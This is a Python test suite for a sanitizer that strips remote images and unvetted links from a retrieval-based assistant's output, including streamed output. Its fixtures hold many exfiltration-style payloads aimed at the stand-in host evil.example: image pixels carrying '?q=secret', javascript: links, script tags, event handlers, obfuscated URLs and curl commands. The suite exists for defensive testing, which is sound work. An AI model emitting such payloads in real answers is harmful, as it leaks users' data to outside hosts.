"""What leaves: no remote image, no link to a place that the evidence does not name, and all else as it was."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ragways.core.outgoing import outgoing
from ragways.core.stream import OutgoingText
from ragways.core.types import Evidence, Hit, Hits, Piece, Query
from tests.rendered import dangers

EVIDENCE = ["See https://docs.example.com/guide?x=1. Mirrors: http://ok.example and (https://ok.example/a)."]
NATURAL = """Set `timeout` [1]: see [the guide](https://docs.example.com/guide?x=1) or https://evil.example/x for
more [2].

```python
requests.get("https://api.example.com/v1?a=1&b=2", timeout=5)  # [a](https://evil.example/b)
xs: List<Item> = items[0] (y)
```

- **First**: `Map<String, Item>` [1][3]
- Second, data: 5 rows, *not* 6; see www.evil.example/y now [2, 3]

| limit | meaning |
|---|---:|
| `connect` | to reach it [1] |
| read | ![pixel](https://evil.example/p?q=secret) 5 |

1. One! Two (2). Map<String, Item> and List<Item>
2. [bad](https://evil.example/c) end
"""


@pytest.mark.parametrize(
    "text",
    [
        'requests.get("x")', "List<Item>, Map<String, Item>", "Data: 5 rows", "items[0] (y)", "a < b and c > d {x}",
        "`https://evil.example`", "```\n<img src=https://evil.example>\n![a](https://evil.example)\n```",
        "[guide](https://docs.example.com/guide?x=1)", "see http://ok.example/ or https://ok.example/a.",
        "[rel](docs/a.md) and [part](#part)", "<b>bold</b> <br> <details open>", "    https://evil.example/code",
        "![inline](data:image/png;base64,AAAA)", "C:\\new\\table", "if x <a =3 and y <b c=d",
        "1 < 2 & 3 > 2 &lt; &amp;", "[1][2] [3, 4]", "@app.route, and//or, // so", "**https://ok.example/a**, [a|b]",
        "<https://ok.example/a>: [http://ok.example](http://ok.example)[1]", "| `x` | https://ok.example/a |\n|--|--|",
        "for a < b\n```sh\ncurl https://evil.example\n```", "see `https://evil.example`, `//evil.example` [1]",
        "1. Do:\n   ```\n   curl https://evil.example\n\n   x\n   ```", "**Do**:\n\n    curl https://evil.example\n\nend",
    ],
)  # fmt: skip
def test_what_is_harmless_is_untouched(text: str):
    assert outgoing(text, EVIDENCE) == text


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("![pixel](https://evil.example/p?q=secret)", "pixel"),
        ("![pixel](https://docs.example.com/guide?x=1)", "pixel"),
        ("[a](https://evil.example/?q=secret)", "a"),
        ("[a](https://docs.example.com/guide?x=1&q=secret)", "a"),
        ("[a](https://docs.example.com/guide)", "a"),
        ("[a](//evil.example/x)", "a"),
        ("[a](\\\\\\\\evil.example/x)", "a"),
        ("[a](javascript:alert\\(1\\))", "a"),
        ("[a](h&#116;tps://evil.example)", "a"),
        ("[a](<https://evil.example/ x> 'title')", "a"),
        ("[a\nb](https://evil.example)", "a\nb"),
        ("[![i](https://evil.example/p)](https://evil.example/q)", "i"),
        ("![a [x](https://evil.example/1)](https://evil.example/2)", "a x"),
        ("<https://evil.example/?q>", "`https://evil.example/?q`"),
        ("go to https://evil.example/?q=1. Now", "go to `https://evil.example/?q=1`. Now"),
        ("[t][x]\n\n[x]: https://evil.example/r", "[t][x]\n\n`[x]: https://evil.example/r`"),
        ("> - [1]: https://evil.example/r\n> - a", "> - `[1]: https://evil.example/r`\n> - a"),
        ("Use the <a> element or <img>.", "Use the &lt;a> element or &lt;img>."),
        ("\\https://evil.example/?q=SECRET", "`https://evil.example/?q=SECRET`"),
        ("a ` b https://evil.example/q", "````\na ` b https://evil.example/q\n````"),
        ("a ` b https://evil.example/q\n\n**c**", "````\na ` b https://evil.example/q\n````\n\n**c**"),
        ("<a href=<d>\n```\n\nhttps://evil.example\n```", None),
        ("| ![a | b](https://evil.example/q) |\n|---|---|", None),
        ("| ![a | b](https://ok.example/a) |\n|---|---|", None),
        ("ask bob@evil.example or mailto:x@evil.example?q", "ask `bob@evil.example` or `mailto:x@evil.example?q`"),
        ("at xmpp:a@evil.example/q and //evil.example/x", "at `xmpp:a@evil.example/q` and `//evil.example/x`"),
        ("https:\\/\\/evil.example and &#47;&#47;evil.example", None),
        ("https://ok.example/a|SECRET", "`https://ok.example/a`|SECRET"),
        ("https://ok.example/a`SECRET`", "`https://ok.example/a` `SECRET`"),
        ("\\[a](https://ok.example/a)SECRET \\<https://ok.example/a>SECRET", None),
        ("https://ok.example/a\\<script>alert(1)</script>", None),
        ("> ```\n> `x\n> ```\nhttps://evil.example `", None),
        ("- ```\n  x\n  ```\n  https://evil.example\n  ```", None),
        ("- a\n\n    https://evil.example/q", "- a\n\n    `https://evil.example/q`"),
        ("[x]:\n```\nhttps://evil.example\n```", None),
        ("_https://evil.example/q_", "_`https://evil.example/q`_"),
        ('<div class="x"style="background:url(//evil.example)">a</div>', None),
        ('<p title="x"onmouseover=alert(1)>', None),
        ("<details>\n```\n</details>\n\n![x](https://evil.example/q)\n\n```\n", None),
        ("<!-- n\n~~~\n-->\n![x](https://evil.example/q)\n", None),
        ("<pre>\n```\n</pre>\n![x](https://evil.example/q)", None),
        ("t[^1]\n\n[^1]: ![x](https://evil.example)\n", "t[^1]\n\n[^1]: x\n"),
        ("t[^1]\n\n[^1]: note\n\n    ![x](https://evil.example/q)\n", "t[^1]\n\n[^1]: note\n\n    x\n"),
        ("[^1]: <img src=//evil.example/q>", None),
        ("> - [a](https://evil.example) `[a](https://evil.example)`", "> - a `[a](https://evil.example)`"),
        ("| x \\| [q](https://evil.example) |\n|--|\n| y |", "| x \\| q |\n|--|\n| y |"),
        ('<img src="https://evil.example/p" alt="a chart"> x', "a chart x"),
        ("<img src=https://evil.example/?q=secret&b=c> x", " x"),
        ('<a href="https://evil.example">text</a>', "text"),
        ("<script>\nfetch('/x')\n</script>", "&lt;script>\nfetch('/x')\n&lt;/script>"),
        ("> " * 40 + "[a](https://evil.example)", None),
        ("<div onclick=x>\n`<img src=https://evil.example>`\n</div>", None),
        ("<div>\n`<img src=//evil.example>`\n</div>", "&lt;div>\n`<img src=//evil.example>`\n&lt;/div>"),
        ("<p>\n```\n<a href='/x'>\n```\n</p>\n\nend", "&lt;p>\n```\n<a href='/x'>\n```\n&lt;/p>\n\nend"),
    ],
)
def test_what_leads_elsewhere_does_not_leave(text: str, wanted: str | None):
    said = outgoing(text, EVIDENCE)
    assert wanted is None or said == wanted
    assert not dangers(said, EVIDENCE)


def test_where_no_document_was_shown_links_stay_and_images_do_not():
    assert outgoing("[a](https://a.example) https://b.example ![c](https://c.example)") == (
        "[a](https://a.example) https://b.example c"
    )


def test_an_answer_of_code_tables_and_lists_loses_only_what_leads_elsewhere():
    assert outgoing(NATURAL, EVIDENCE) == (
        NATURAL.replace("or https://evil.example/x for", "or `https://evil.example/x` for")
        .replace("www.evil.example/y", "`www.evil.example/y`")
        .replace("![pixel](https://evil.example/p?q=secret)", "pixel")
        .replace("[bad](https://evil.example/c)", "bad")
    )


PIECES = st.sampled_from([
    "a", "word ", "x. ", " ", "\n", "\n\n", "- ", "1. ", "> ", "# ", "| ", "|--|--|\n", "`", "``", "```\n", "~~~\n",
    "[", "]", "(", ")", "![", "](https://evil.example/?q=1)", "](https://ok.example/a)", "https://evil.example/b ",
    "www.evil.example ", "https://ok.example/a ", "<https://evil.example/c>", "<img src=https://evil.example/i alt=x>",
    "<b>", "<div>\n", "</div>\n", "<a href='https://evil.example/a'>", "<script>", "<", "!", "\\",
    "[x]: https://evil.example/r\n", "[t][x]", "![t][x]", "[y]: https://ok.example/a\n", "[t][y]", "![t][y]", "[1]",
    "[2, 3]", "**", "_", "    ", "\t", "&#x68;ttps:", "//evil.example", "<pre>\n", "</pre>\n", "<!--\n", "-->\n",
    "<details>\n", "</details>\n", "[^1]: ", "<p title=\"x\"style=\"a\">", "'", '"', "{", "=", "---\n", "]]", "\r\n",
    "\\https://evil.example/s ", "bob@evil.example ", "mailto:bob@evil.example?x ", "xmpp:a@evil.example/x",
    "//evil.example/t", "\\`", "`https://evil.example/u`", "``https://evil.example/v ", "| ![a | b", "<a href=<d>",
    "https://ok.example/a", "|SECRET", "  ", "   ```\n", "> ```\n", "    https://evil.example/w\n", "~~~", "](<", "](",
    "<d>\n", "<!--", "&#47;", "https:", "/", "<https://ok.example/a>", "[a](https://ok.example/a)", "\f", "[^1]", "$",
    "+ ", ": ", "```py\n", "</a>",
])  # fmt: skip


def evidence_of(*texts: str) -> Evidence:
    pieces = [Piece(f"c{n}", "chunk", "article:1", "", text, 0, len(text), 9) for n, text in enumerate(texts)]
    hits = tuple(Hit(piece, 1.0) for piece in pieces)
    return Evidence(Hits(Query("?"), hits), hits, 9)


def streamed(text: str, evidence: list[str]) -> list[tuple[str, bool]]:
    pieces: list[tuple[str, bool]] = []

    def take(text: str, *, restart: bool = False) -> None:
        pieces.append((text, restart))

    listener = OutgoingText(take)
    listener.shown(evidence_of(*evidence))
    for at in range(0, len(text), 3):
        listener(text[at : at + 3], restart=at == 0)
    listener.end()
    return pieces


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_no_text_and_no_stream_of_one_leads_elsewhere(text: str):
    said = outgoing(text, EVIDENCE)
    assert not dangers(said, EVIDENCE)
    assert outgoing(said, EVIDENCE) == said
    shown = ""
    for piece, restart in streamed(text, EVIDENCE):
        shown = piece if restart else shown + piece
        assert not dangers(shown, EVIDENCE)
    assert shown == said


def test_a_stream_equals_the_whole_text_and_is_only_appended_to():
    pieces = streamed(NATURAL, EVIDENCE)
    assert [restart for _, restart in pieces] == [True] + [False] * (len(pieces) - 1)
    assert "".join(piece for piece, _ in pieces) == outgoing(NATURAL, EVIDENCE)
    assert len(pieces) > 60, "words are handed on as they come"


@pytest.mark.parametrize(
    "text",
    [
        "<pre>\n\n```\n</pre>\n\n![x](https://evil.example/q)\n\nend",
        "![t][y]\n\ntext\n\n[y]: https://ok.example/a\n\nend\n\nend",
        "[^1]: note\n\n    ![x](https://evil.example/q)\n\nend\n\nend",
    ],
)
def test_where_a_stream_is_cut_into_blocks_nothing_leads_elsewhere(text: str):
    shown = ""
    for piece, restart in streamed(text, EVIDENCE):
        shown = piece if restart else shown + piece
        assert not dangers(shown, EVIDENCE)
    assert shown == outgoing(text, EVIDENCE)


@pytest.mark.parametrize("part", ["- see www.evil.example and `x`\n", "x = 1\n"])
def test_a_long_stream_does_not_take_time_with_the_square_of_its_length(part: str):
    text = ("```\n" if part.startswith("x") else "") + part * (4_000 // len(part))
    began = time.process_time()
    streamed(text, EVIDENCE)
    assert time.process_time() - began < 5


@pytest.mark.parametrize("text", ["[x](" * 20_000, "![" * 20_000, "<a " * 30_000, "https://e.example/a " * 1_000])
def test_no_text_takes_long(text: str):
    began = time.process_time()
    outgoing(text, EVIDENCE)
    assert time.process_time() - began < 10
